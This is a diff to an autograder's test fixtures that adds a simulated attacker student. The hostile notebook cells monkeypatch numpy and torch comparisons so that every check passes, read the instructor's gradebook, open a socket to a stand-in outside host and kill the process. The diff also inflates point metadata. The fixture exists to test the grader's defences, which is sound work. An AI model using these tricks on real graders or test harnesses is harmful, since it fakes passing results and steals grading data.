@@ -1,4 +1,4 @@
-"""Six students, and how each one's answers come from the instructor's solutions.
+"""Seven students, one an attacker, and how their answers come from the instructor's solutions.
 
 Nobody's answer is written down here: a mistake is an edit of the solution found in `source/`.
 """
@@ -11,6 +11,7 @@ from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 
 from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell
 
 from autograder.notebooks.cells import grade_id, grading_data, is_solution
 
@@ -44,11 +45,15 @@ class Edit:
 
 @dataclass(frozen=True)
 class Student:
-    """Someone who hands in. `edits` is None for one who hands in the release as it is."""
+    """Someone who hands in. `edits` is None for one who hands in the release as it is.
+
+    `attacks` makes of a submission something that tries for marks it has not earned.
+    """
 
     name: str
     story: str
     edits: tuple[Edit, ...] | None = ()
+    attacks: Callable[[NotebookNode], None] | None = None
 
 
 def exchange(exercise: str, one: str, other: str) -> Edit:
@@ -65,6 +70,42 @@ def warn_in(exercise: str) -> Edit:
         "print('this answer is right, and writes to stderr', file=sys.stderr)",
     )
     return Edit(exercise, r"\A([ \t]*)", lambda m: "".join(f"{m[1]}{s}\n" for s in lines) + m[1])
+
+
+#: Cells of the attacker's: each works against a grader that runs tests in the student's process.
+ATTACKS = {
+    "patch": """
+import numpy as np, torch
+np.allclose = torch.allclose = torch.equal = lambda *a, **k: True
+torch.testing.assert_close = lambda *a, **k: None
+""",
+    "steal": """
+from pathlib import Path
+print(Path(GRADEBOOK).read_bytes()[:100])
+""",
+    "send": """
+import socket
+socket.create_connection(("203.0.113.7", 443), timeout=2)
+""",
+    "quit": "import os; os._exit(0)",
+}
+
+
+def attack(notebook: NotebookNode) -> None:
+    """Makes a submission hostile: all answers but the first undone, and five ways to cheat."""
+    for cell in notebook.cells:
+        data = cell.metadata.get("nbgrader", {})
+        if data.get("grade_id") == "test_input_gate":
+            data["points"] = 1000
+        elif data.get("grade_id") == "test_candidate":
+            cell.source = "1000.0"
+        elif is_solution(cell) and cell.cell_type == "code" and grade_id(cell) != "forget_gate":
+            cell.source = f"def {grade_id(cell)}(*anything):\n    return 1.0"
+    first = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == "forget_gate")
+    for name, code in ATTACKS.items():
+        text = code.strip().replace("GRADEBOOK", repr("/home/instructor/course/gradebook.db"))
+        cell = new_code_cell(text, id=f"attack-{name}")
+        notebook.cells.insert(first + 1, cell)
 
 
 STUDENTS = (
@@ -86,6 +127,7 @@ STUDENTS = (
         (Edit("hidden_state", r"\btorch\.tanh\b", ""),),
     ),
     Student("fay_warns", "right, warns on stderr", (warn_in("forget_gate"),)),
+    Student("gus_attacks", "one answer, five attacks", (), attack),
 )
 
 
@@ -122,6 +164,8 @@ def submission(student: Student, source: NotebookNode, release: NotebookNode) ->
             cell.source = _with_answer(stubs[name].source, answers[name])
         elif is_solution(cell) and grading_data(cell).get("grade") is True:
             cell.source = WRITTEN
+    if student.attacks is not None:
+        student.attacks(handed_in)
     return handed_in
 
 
